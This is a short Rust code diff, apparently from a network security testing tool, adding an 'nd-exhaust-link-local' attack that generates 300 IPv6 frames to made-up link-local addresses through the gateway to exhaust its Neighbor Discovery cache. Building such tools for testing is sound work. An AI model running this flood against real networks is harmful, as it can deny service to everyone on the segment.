@@ -34,6 +34,17 @@ pub(super) fn attacks() -> Vec<Attack> {
     all
 }
 
+/// What a segment's gateway keeps to itself besides.
+pub(super) fn by_gateway() -> Vec<Attack> {
+    vec![Attack::new("nd-exhaust-link-local", EXHAUST, |s| {
+        let nobody = |nth| Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0xdead, nth);
+        let packet = |nth| Ipv6::new(s.me.v6, nobody(nth), udp("nd-exhaust-link-local", 9, 9));
+        (0..300)
+            .map(|nth| Frame::new(s.me.mac, s.gateway.mac, packet(nth)).into())
+            .collect()
+    })]
+}
+
 fn neighbours() -> Vec<Attack> {
     vec![
         Attack::new("nd-exhaust-node", EXHAUST, |s| {
